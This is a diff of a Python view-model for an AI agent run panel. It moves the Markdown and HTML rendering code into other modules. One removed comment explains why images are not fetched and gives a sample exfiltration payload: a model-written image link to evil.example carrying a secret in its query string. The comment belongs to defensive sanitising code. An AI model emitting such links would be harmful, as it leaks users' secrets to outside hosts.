@@ -1,4 +1,4 @@
-"""A plain model of what a run looks like, built only from events. Panel and text view render it.
+"""A plain model of what a run looks like, built only from events (the fold); ui/html.py renders it as HTML.
 
 No IPython or ipywidgets import: it is unit-testable and shared by both views.
 
@@ -12,12 +12,11 @@ from __future__ import annotations
 import json
 import time
 from dataclasses import dataclass, field
-from functools import lru_cache
-from html import escape
 from typing import Any
 
-from . import events as ev
-from .usage import format_cost
+from .. import events as ev
+from ..markup import clip
+from ..usage import format_cost
 
 MAX_TEXT = 4000  # characters of streamed text kept per iteration in the view
 MAX_ANSWER = 20000  # characters of the final answer rendered in the final view
@@ -60,46 +59,6 @@ def describe_decision(approved: bool, by: str | None, reason: str | None) -> str
     if approved:
         return f"approved{who}"
     return f"denied{who}" + (f": {clip(reason, MAX_REASON)}" if reason else "")
-
-
-def clip(text: str, limit: int) -> str:
-    if len(text) <= limit:
-        return text
-    return text[:limit] + f"… [{len(text) - limit} more characters]"
-
-
-# ---------------------------------------------------------------------- Markdown
-@lru_cache(maxsize=1)
-def _markdown() -> Any:
-    from markdown_it import MarkdownIt
-
-    # CommonMark + GFM tables and strikethrough; html=False turns raw HTML into text; linkify off.
-    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
-    md.enable(["table", "strikethrough"])
-
-    def link_open(renderer: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
-        tokens[idx].attrSet("target", "_blank")
-        tokens[idx].attrSet("rel", "noopener noreferrer nofollow")
-        return renderer.renderToken(tokens, idx, options, env)
-
-    def image(renderer: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
-        # Images are not fetched: a model-written image URL is a classic exfiltration channel
-        # (``![](https://evil.example/?q=<secret>)``). Show a link the reader may follow instead.
-        token = tokens[idx]
-        src = escape(token.attrGet("src") or "")
-        alt = escape(renderer.renderInlineAsText(token.children or [], options, env) or "image")
-        return f'<a href="{src}" target="_blank" rel="noopener noreferrer nofollow">🖼 {alt}</a>'
-
-    md.add_render_rule("link_open", link_open)
-    md.add_render_rule("image", image)
-    return md
-
-
-@lru_cache(maxsize=256)
-def render_markdown(text: str) -> str:
-    """Markdown → safe HTML (raw HTML shown as text; ``javascript:``/``vbscript:``/``file:``/non-image
-    ``data:`` links refused by markdown-it's ``validateLink``). Cached: views re-render on every flush."""
-    return f'<div class="mm-md">{_markdown().render(text)}</div>'
 
 
 # ---------------------------------------------------------------------- state
@@ -500,197 +459,3 @@ class RunViewModel:
         elif self.final_output:
             lines.append(clip(self.final_output, MAX_ANSWER))
         return "\n".join(lines)
-
-    # ------------------------------------------------------------------ HTML (always escaped)
-    def badge_html(self) -> str:
-        color = STATUS_COLORS.get(self.status, "#6e7781")
-        label = escape(STATUS_LABELS.get(self.status, self.status))
-        return (f'<span class="mm-status mm-status-{escape(self.status)}" style="background:{color};color:white;'
-                f'border-radius:8px;padding:1px 8px;font-size:85%">{label}</span>')
-
-    def header_html(self) -> str:
-        tokens = "–" if self.tokens is None else str(self.tokens)
-        meta = " · ".join(escape(x) for x in (self.model, self.mode) if x)
-        parts = [
-            f"<b>{escape(self.title)}</b>",
-            self.badge_html(),
-            f'<span class="mm-meta" style="color:#57606a">{meta}</span>',
-            f'<span class="mm-elapsed">{self.elapsed:.1f}s</span>',
-            f'<span class="mm-tokens">tokens: {escape(tokens)}</span>',
-        ]
-        if self.cost_text():
-            parts.append(f'<span class="mm-cost">{escape(self.cost_text())}</span>')
-        if self.retries:
-            parts.append(f'<span class="mm-retries">retries: {self.retries}</span>')
-        return ('<div class="mm-header" style="display:flex;gap:10px;align-items:center;flex-wrap:wrap">'
-                + "".join(parts) + "</div>")
-
-    def body_blocks(self) -> list[tuple[str, str]]:
-        """The live body as keyed blocks: a view replaces only the blocks whose HTML changed."""
-        if self.batch is not None:
-            return [("batch", self._batch_html())]
-        blocks = [("task", f'<div class="mm-task" style="color:#57606a">{escape(clip(self.task, 300))}</div>')]
-        if self.status == "waiting":
-            blocks.append(("waiting", f'<div class="mm-waiting" style="color:#8250df">⏸ '
-                                      f"{escape(self.waiting_text())}</div>"))
-        if self.dropped_iterations:
-            blocks.append(("dropped", f"<div>… {self.dropped_iterations} earlier iteration(s) not shown</div>"))
-        recent = {it.number for it in self.iterations[-EXPANDED_ITERATIONS:]}
-        for it in self.iterations:
-            blocks.append((f"it-{it.number}", self._iteration_html(it, it.number in recent or not it.finished)))
-        if self.error:
-            blocks.append(("error", self._error_html()))
-        return blocks
-
-    def body_html(self) -> str:
-        return "".join(html for _key, html in self.body_blocks())
-
-    def _error_html(self) -> str:
-        return f'<div class="mm-error" style="color:#cf222e">{escape(self.error or "")}</div>'
-
-    def _iteration_html(self, it: IterationView, expanded: bool, skip_text: bool = False) -> str:
-        state = f"{it.duration:.2f}s" if it.duration is not None else ("running…" if not self.finished else "")
-        summary = " · ".join(x for x in (f"iteration {it.number}", f"{len(it.tools)} tool call(s)", state) if x)
-        inner = []
-        if it.text and not skip_text:
-            inner.append(f'<div class="mm-text">{render_markdown(it.text)}</div>')
-        for card in it.tools.values():
-            inner.append(self._card_html(card))
-        return (f'<details class="mm-iteration"{" open" if expanded else ""}><summary>{escape(summary)}</summary>'
-                + "".join(inner) + "</details>")
-
-    @staticmethod
-    def _card_html(card: ToolCard) -> str:
-        icon = TOOL_ICONS.get(card.state, "")
-        dur = f" · {card.duration:.2f}s" if card.duration is not None else ""
-        head = f"{icon} <b>{escape(card.name)}</b> · {escape(card.status_text())}{dur}"
-        if card.approval in ("approved", "denied"):
-            head = (f'<span class="mm-decision mm-decision-{card.approval}" data-by="{escape(card.approval_by or "")}"'
-                    f">{head}</span>")
-        body = ""
-        if card.state == "running" and card.progress_done is not None:
-            frac = card.progress_fraction()
-            bar = ""
-            if frac is not None:
-                bar = ('<span class="mm-tool-bar" style="display:inline-block;width:120px;height:8px;'
-                       'background:#eaeef2;border-radius:4px;vertical-align:middle;margin-right:6px">'
-                       f'<span style="display:block;height:8px;width:{frac * 100:.0f}%;background:#1f6feb;'
-                       'border-radius:4px"></span></span>')
-            body += f'<div class="mm-tool-progress">{bar}{escape(card.progress_text())}</div>'
-        body += f'<pre class="mm-args" style="margin:2px 0;white-space:pre-wrap">{escape(card.arguments_json())}</pre>'
-        if card.state == "awaiting":
-            # The panel's Approve / Deny controls go here (static/panel.js); other approvers: the note stays.
-            body += (f'<div class="mm-approval-slot" data-call-id="{escape(card.call_id)}">'
-                     '<span class="mm-approval-wait" style="color:#8250df">✋ waiting for a decision…</span></div>')
-        shown = card.result if card.state == "ok" else (card.error or card.result)
-        if card.state == "denied" and card.approval == "denied":
-            shown = None  # the head says it: "denied (panel): not now"
-        if shown is not None:
-            short = clip(shown, 200)
-            if short == shown:
-                body += f'<pre class="mm-result" style="margin:2px 0;white-space:pre-wrap">{escape(shown)}</pre>'
-            else:
-                body += (f'<details class="mm-result"><summary>{escape(short)}</summary>'
-                         f'<pre style="white-space:pre-wrap">{escape(shown)}</pre></details>')
-        return (f'<div class="mm-tool mm-tool-{escape(card.state)}" style="border:1px solid #d0d7de;'
-                f'border-radius:6px;padding:4px 8px;margin:4px 0"><div>{head}</div>{body}</div>')
-
-    def _batch_html(self) -> str:
-        assert self.batch is not None
-        c = self.batch_counts()
-        rows = []
-        for row in self.batch[:MAX_BATCH_ROWS]:
-            body = row.answer if row.status == "ok" else (row.error or "")
-            dur = f"{row.duration:.2f}s" if row.duration is not None else ""
-            rows.append(f'<tr class="mm-row mm-row-{escape(row.status)}"><td>{row.index + 1}</td>'
-                        f"<td>{escape(clip(row.message, 200))}</td><td>{escape(row.status)}</td><td>{dur}</td>"
-                        f'<td style="white-space:pre-wrap">{escape(clip(body or "", 500))}</td></tr>')
-        more = len(self.batch) - MAX_BATCH_ROWS
-        if more > 0:
-            rows.append(f'<tr><td colspan="5">+{more} more</td></tr>')
-        counts = (f'<div class="mm-counts">{c["done"]} done · {c["failed"]} failed · {c["running"]} running · '
-                  f'{c["pending"]} pending</div>')
-        return (counts + '<table class="mm-batch"><tr><th>#</th><th>message</th><th>status</th><th>time</th>'
-                "<th>answer / error</th></tr>" + "".join(rows) + "</table>")
-
-    def progress_html(self, with_bar: bool = True) -> str:
-        done, total, label = self.progress()
-        color = STATUS_COLORS.get(self.status, "#1f6feb") if self.finished else "#1f6feb"
-        bar = ""
-        if with_bar:
-            bar = ('<div class="mm-progress" style="display:inline-block;width:240px;height:10px;background:#eaeef2;'
-                   'border-radius:5px;vertical-align:middle;margin-right:8px">'
-                   f'<div class="mm-progress-fill" style="height:10px;width:{100 * done / max(total, 1):.0f}%;'
-                   f'background:{color};border-radius:5px"></div></div>')
-        return f'<div class="mm-progress-row">{bar}<span class="mm-progress-label">{escape(label)}</span></div>'
-
-    def final_html(self) -> str:
-        """The final view: status, progress, steps (collapsed), usage, and the answer once (Markdown)."""
-        out = [f'<div class="mm-panel mm-final mm-final-{escape(self.status)}" style="border:1px solid #d0d7de;'
-               f'border-radius:8px;padding:8px 12px">', self.header_html(), self.progress_html()]
-        if self.batch is not None:
-            out.append(self._batch_html())
-        else:
-            out.append(f'<div class="mm-task" style="color:#57606a">{escape(clip(self.task, 300))}</div>')
-            steps = []
-            if self.dropped_iterations:
-                steps.append(f"<div>… {self.dropped_iterations} earlier iteration(s) not shown</div>")
-            answer = self.final_output.strip()
-            for it in self.iterations:
-                # The answer is shown once, below: not again inside the step that produced it.
-                steps.append(self._iteration_html(it, False, skip_text=bool(answer) and it.text.strip() == answer))
-            if steps:
-                summary = (f"{self.iteration_count} iteration(s) · {self.tool_call_count} tool call(s) · "
-                           f"{self.usage_text()}")
-                out.append(f'<details class="mm-steps"><summary>{escape(summary)}</summary>{"".join(steps)}'
-                           "</details>")
-            else:
-                out.append(f'<div class="mm-usage">{escape(self.usage_text())}</div>')
-            decisions = self.decision_lines()
-            if decisions:  # visible without opening the steps
-                out.append('<ul class="mm-decisions" style="margin:4px 0;padding-left:18px">'
-                           + "".join(f"<li>{escape(line)}</li>" for line in decisions) + "</ul>")
-        if self.error:
-            out.append(self._error_html())
-        elif self.status == "cancelled":
-            out.append('<div class="mm-cancelled" style="color:#6e7781">⏹ the run was cancelled</div>')
-        if self.output is not None:
-            out.append(f'<div class="mm-output">{output_html(self.output)}</div>')
-        elif self.final_output:
-            out.append(f'<div class="mm-answer">{render_markdown(clip(self.final_output, MAX_ANSWER))}</div>')
-        out.append("</div>")
-        return "".join(out)
-
-    def record_html(self) -> str:
-        """Kept for callers of the old API: the final view."""
-        return self.final_html()
-
-
-def _plain(value: Any) -> Any:
-    """A typed output as plain data (pydantic models, dataclasses → dicts)."""
-    import dataclasses
-
-    dump = getattr(value, "model_dump", None)
-    if callable(dump):
-        return dump(mode="json")
-    if dataclasses.is_dataclass(value) and not isinstance(value, type):
-        return dataclasses.asdict(value)
-    return value
-
-
-def output_html(value: Any, depth: int = 0) -> str:
-    """A typed output as a small table (objects), list (sequences) or value; nested levels as a tree."""
-    data = _plain(value)
-    if depth > 4:
-        return f"<code>{escape(clip(json.dumps(data, default=str), 300))}</code>"
-    if isinstance(data, dict):
-        name = type(value).__name__ if depth == 0 and not isinstance(value, dict) else ""
-        caption = f'<caption style="text-align:left;color:#57606a">{escape(name)}</caption>' if name else ""
-        rows = "".join(f'<tr><th style="text-align:left;padding-right:12px">{escape(str(k))}</th>'
-                       f"<td>{output_html(v, depth + 1)}</td></tr>" for k, v in list(data.items())[:100])
-        return f'<table class="mm-output-table">{caption}{rows}</table>'
-    if isinstance(data, (list, tuple)):
-        items = "".join(f"<li>{output_html(v, depth + 1)}</li>" for v in list(data)[:100])
-        more = f"<li>… {len(data) - 100} more</li>" if len(data) > 100 else ""
-        return f'<ol class="mm-output-list" start="0" style="margin:0">{items}{more}</ol>'
-    return f"<code>{escape(clip(str(data), 1000))}</code>"
